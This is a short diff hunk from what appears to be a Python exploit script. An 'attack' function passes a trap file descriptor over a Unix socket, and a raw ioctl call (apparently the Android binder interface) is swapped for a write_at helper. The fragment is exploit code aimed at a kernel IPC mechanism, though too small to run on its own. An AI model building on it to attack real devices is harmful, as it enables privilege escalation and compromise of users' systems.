@@ -36,8 +36,7 @@ def attack(path, channel):
     trap = Trap()
     channel.sendmsg([struct.pack("Q", trap.address)],
                     [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [trap.fd]))])
-    arg = struct.pack("<6Q", 4 + TRANSACTION.size, 0, trap.address, 0, 0, 0)
-    ioctl(client.fd, 0xC0306201, ctypes.create_string_buffer(arg))
+    client.write_at(trap.address, 4 + TRANSACTION.size)
 
 
 def start_attack(path):
